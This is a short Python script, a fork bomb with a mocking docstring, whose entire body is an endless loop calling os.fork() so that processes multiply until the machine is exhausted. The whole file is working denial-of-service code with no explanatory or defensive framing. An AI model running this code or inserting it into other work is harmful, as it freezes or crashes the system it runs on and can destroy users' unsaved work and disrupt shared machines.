"""Each child is as bad as its parent."""

import os

while True:
    os.fork()
